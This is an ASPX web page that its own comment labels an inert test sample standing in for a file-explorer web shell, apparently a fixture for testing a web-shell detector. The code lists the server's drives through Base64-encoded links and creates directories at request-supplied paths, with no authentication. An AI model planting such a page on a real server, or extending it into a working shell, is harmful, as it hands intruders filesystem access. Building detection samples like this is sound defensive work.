<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
	/* exhume test sample: inert stand-in for an ASPX file-explorer shell. */
	string Dec(string s) { return System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(s)); }
	string Enc(string s) { return Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(s)); }
	void Page_Load(object sender, EventArgs e)
	{
		foreach (DriveInfo d in DriveInfo.GetDrives())
			Drives.Text += "<a href='?d=" + Enc(d.Name) + "'>" + d.Name + "</a> ";
	}
	void NewDir_Click(object sender, EventArgs e)
	{
		Directory.CreateDirectory(Dec(Request["d"]) + DirName.Text);
		Msg.Text = DirName.Text + " Created!";
	}
</script>
<form runat="server"><asp:Label id="Drives" runat="server"/><asp:TextBox id="DirName" runat="server"/><asp:Button Text="mkdir" OnClick="NewDir_Click" runat="server"/><asp:Label id="Msg" runat="server"/></form>
